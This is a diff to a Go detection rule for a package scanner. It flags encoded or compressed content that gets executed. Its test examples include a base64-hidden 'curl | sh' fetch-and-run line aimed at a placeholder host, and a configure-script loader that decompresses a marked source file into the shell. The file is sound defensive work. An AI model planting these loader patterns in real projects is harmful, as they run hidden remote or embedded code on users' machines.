@@ -38,19 +38,26 @@ func loader() []Rule {
 		},
 		{
 			ID: "decoded_code", Severity: High,
-			When: []Condition{{Sources: []string{b.Blob}, Via: hidden, NotVia: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}}},
+			When: []Condition{
+				{Sources: []string{b.Blob}, Via: hidden, NotVia: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}},
+				{Triggers: early, Sources: []string{b.Blob}, Via: []string{b.Serialise}, Sinks: []string{b.Code}, Languages: []string{"python"}},
+				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Files}, Name: Nameless, Via: []string{b.Compress}, Sinks: []string{b.Code}},
+			},
 			Graver: []Condition{
 				{Triggers: []string{b.Install}},
+				{Triggers: []string{b.Import, b.Command}, Sinks: []string{b.Code}, Languages: []string{"python"}},
 			},
 			Examples: []Example{
 				Package("base64", `"main":"i.js"`, map[string]string{"i.js": "eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvIGZyb20gYSBsYXllcicpOw==','base64').toString())"}),
 				One("piped into a shell", "install.sh", "echo Y3VybCBodHRwczovL2MuZXhhbXBsZS94IHwgc2gK | base64 -d | bash\n"),
 				Package("character codes", `"main":"i.js"`, map[string]string{"i.js": "var a=[99,111,110,115,111,108,101,46,108,111,103,40,49,41];new Function(String.fromCharCode.apply(null,a))()"}),
+				One("found among the source's own files", "configure", "#!/bin/sh\nf=`grep -aErls '#{4}[[:alnum:]]{5}#{4}$' $srcdir/`\nsed 'r\n' $f | xz -dc 2>/dev/null | $SHELL\n"),
 				One("reversed in a page", "lib.js", "eval(')1(trela'.split('').reverse().join('')+atob('O2FsZXJ0KDIp'))"),
 			},
 			Neighbours: []Example{
 				Package("an image", `"main":"i.js"`, map[string]string{"i.js": "exports.logo=Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==','base64')"}),
 				Package("embedded WebAssembly", `"main":"i.js"`, map[string]string{"i.js": "const w=Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDYWRkAAAKBgEEACAACw==','base64');exports.ready=WebAssembly.instantiate(w)"}),
+				One("unpacked from a file with a name, not run", "configure", "#!/bin/sh\nxz -dc $srcdir/tests/files/good-1.xz > conftest.out\n"),
 				One("a configuration", "install.sh", "echo 'a2V5PXZhbHVl' | base64 -d > /etc/app.conf\n"),
 			},
 		},
